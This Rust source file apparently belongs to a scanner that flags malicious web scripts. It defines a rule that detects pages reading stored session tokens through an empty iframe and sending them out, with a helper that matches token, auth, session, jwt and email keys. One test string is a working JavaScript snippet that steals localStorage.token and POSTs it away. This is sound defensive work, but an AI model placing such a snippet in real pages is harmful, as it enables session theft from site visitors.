//! `storage-through-frame`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "storage-through-frame",
    description: "The script reads this page's stored data through an empty frame and sends data out.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::FrameStorage]),
        one(&[Atom::Request, Atom::Beacon, Atom::Socket, Atom::AddressFromData]),
    ],
    within: 500,
    only_if: Some(takes_session),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "var t=document.body.appendChild(document.createElement('iframe')).contentWindow.localStorage.token;x=new XMLHttpRequest;x.open('POST',u);x.send(t)",
        ],
        without: &[
            "function works(){var f=document.body.appendChild(document.createElement('iframe'));var s=f.contentWindow.localStorage;s.setItem('a','1');s.removeItem('a')}fetch('https://log.example/s',{method:'POST',body:JSON.stringify({works:works()})})",
            "var t=window.localStorage.theme;fetch('/t?'+t)",
            r#"var f=document.createElement('iframe');document.body.appendChild(f);var s=f.contentWindow.localStorage;f.remove();fetch('https://api.poll.example/vote?u='+s.getItem('uid'))"#,
        ],
    },
};

/// Whether what keeps a visitor signed in is read: `.token`, `getItem('session')`, or everything as a text. A page may read its own
/// settings this way, or try whether there is a storage.
fn takes_session(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 60);
    let names = |at: usize| {
        let key = near.word(at).to_ascii_lowercase();
        key.len() < 40 && ["token", "auth", "session", "jwt", "email"].iter().any(|word| key.contains(word))
    };
    near.places().any(|at| match near.kind(at) {
        Some(Kind::Member) if near.word(at) == "stringify" => near.arguments(at).is_some_and(|mut all| {
            all.any(|at| matches!(near.kind(at), Some(Kind::Name | Kind::Member)) && is_storage(near, at))
        }),
        Some(Kind::Member) => names(at) && is_storage(near, at.wrapping_sub(1)),
        Some(Kind::Str) => {
            names(at) && (near.before(at, 2) == "getItem" || near.is(at.wrapping_sub(1), b'['))
        }
        _ => false,
    })
}

/// Whether an item is the storage, or a name that it was put into.
fn is_storage(near: Near<'_>, at: usize) -> bool {
    near.word(at) == "localStorage"
        || near
            .words(&["localStorage"])
            .any(|storage| near.put_into(storage).is_some_and(|name| near.word(name) == near.word(at)))
}
